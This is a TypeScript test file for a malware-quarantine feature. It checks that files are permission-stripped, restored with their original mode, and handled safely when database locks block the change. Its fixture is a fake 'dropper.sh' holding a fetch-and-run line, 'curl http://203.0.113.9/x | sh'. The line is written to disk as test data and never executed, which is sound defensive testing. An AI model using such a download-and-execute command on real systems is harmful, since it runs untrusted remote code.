import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import type { Database } from 'better-sqlite3';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import type { QuarantinedFile } from '../../../src-main/contract';
import { createServiceContext, type ServiceContext } from '../../../src-main/services/context';
import { dispatchAsync } from '../../../src-main/services/dispatch';
import { openDatabase } from '../../../src-main/store/database';

const mode = (file: string) => fs.statSync(file).mode & 0o777;
const quarantineFolder = (ctx: ServiceContext) => path.join(ctx.dataDir, 'quarantine');
const leftInQuarantine = (ctx: ServiceContext) => (fs.existsSync(quarantineFolder(ctx)) ? fs.readdirSync(quarantineFolder(ctx), { recursive: true }) : []);

/** Another process holding the write lock, and a context that gives up after a moment instead of 5 s. */
function lockDatabase(ctx: ServiceContext): Database {
  const other = openDatabase(ctx.dataDir);
  other.exec('BEGIN IMMEDIATE');
  ctx.db.pragma('busy_timeout = 100');
  return other;
}

function unlock(ctx: ServiceContext, other: Database): void {
  other.exec('ROLLBACK');
  other.close();
  ctx.db.pragma('busy_timeout = 5000');
}

/** Each case in a data dir under `dataParent`, the suspect file in the usual temp folder. */
function quarantineCases(dataParent: string) {
  let ctx: ServiceContext;
  let work: string;
  let suspect: string;
  beforeEach(() => {
    work = fs.mkdtempSync(path.join(os.tmpdir(), 'firebreak-quarantine-'));
    ctx = createServiceContext({ dataDir: fs.mkdtempSync(path.join(dataParent, 'firebreak-quarantine-data-')), transport: 'http' });
    suspect = path.join(work, 'dropper.sh');
    fs.writeFileSync(suspect, '#!/bin/sh\ncurl http://203.0.113.9/x | sh\n');
    fs.chmodSync(suspect, 0o750);
  });
  afterEach(() => {
    ctx.db.close();
    fs.rmSync(work, { recursive: true, force: true });
    fs.rmSync(ctx.dataDir, { recursive: true, force: true });
  });

  it('moves the file in with its permissions stripped, leaves no temporary, and puts it back with its mode', async () => {
    const added = await dispatchAsync(ctx, 'quarantine.add', { file: suspect });
    expect(added).toMatchObject({ ok: true });
    const entry = (added as { value: QuarantinedFile }).value;
    expect(fs.existsSync(suspect)).toBe(false);
    expect(fs.readdirSync(path.dirname(entry.storedPath))).toEqual(['dropper.sh']);
    expect(mode(entry.storedPath)).toBe(0o000);
    expect(await dispatchAsync(ctx, 'quarantine.release', { id: entry.id })).toMatchObject({ ok: true, value: { releasedAt: expect.any(String) } });
    expect([fs.readFileSync(suspect, 'utf8'), mode(suspect)]).toEqual(['#!/bin/sh\ncurl http://203.0.113.9/x | sh\n', 0o750]);
    expect(leftInQuarantine(ctx)).toEqual([]);
  });

  it('puts the file back where it was, with its mode, when the quarantine cannot be recorded', async () => {
    const other = lockDatabase(ctx);
    try {
      expect(await dispatchAsync(ctx, 'quarantine.add', { file: suspect })).toEqual({ ok: false, error: { code: 'conflict', message: expect.stringContaining('Try again') } });
      expect([fs.readFileSync(suspect, 'utf8'), mode(suspect)]).toEqual(['#!/bin/sh\ncurl http://203.0.113.9/x | sh\n', 0o750]);
      expect(leftInQuarantine(ctx)).toEqual([]);
    } finally {
      unlock(ctx, other);
    }
    expect(await dispatchAsync(ctx, 'quarantine.list', {})).toEqual({ ok: true, value: { files: [] } });
    // Trying again once the database is free works.
    expect(await dispatchAsync(ctx, 'quarantine.add', { file: suspect })).toMatchObject({ ok: true });
    expect(fs.existsSync(suspect)).toBe(false);
  });

  it('keeps the file in quarantine, still locked down, when its release cannot be recorded', async () => {
    const entry = ((await dispatchAsync(ctx, 'quarantine.add', { file: suspect })) as { value: QuarantinedFile }).value;
    const other = lockDatabase(ctx);
    try {
      expect(await dispatchAsync(ctx, 'quarantine.release', { id: entry.id })).toMatchObject({ ok: false, error: { code: 'conflict' } });
      expect(fs.existsSync(suspect)).toBe(false);
      expect(mode(entry.storedPath)).toBe(0o000);
    } finally {
      unlock(ctx, other);
    }
    expect(await dispatchAsync(ctx, 'quarantine.list', {})).toMatchObject({ ok: true, value: { files: [{ id: entry.id, releasedAt: null }] } });
    expect(await dispatchAsync(ctx, 'quarantine.release', { id: entry.id })).toMatchObject({ ok: true });
    expect([fs.readFileSync(suspect, 'utf8'), mode(suspect)]).toEqual(['#!/bin/sh\ncurl http://203.0.113.9/x | sh\n', 0o750]);
  });
}

describe('quarantine on one file system', () => {
  quarantineCases(os.tmpdir());
});

// A data dir on another file system (tmpfs here) takes the copy path instead of rename(2).
const otherDevice = ['/dev/shm'].find((dir) => fs.existsSync(dir) && fs.statSync(dir).dev !== fs.statSync(os.tmpdir()).dev);
describe.skipIf(!otherDevice)('quarantine across file systems (skipped when there is no second file system such as /dev/shm)', () => {
  quarantineCases(otherDevice ?? os.tmpdir());
});
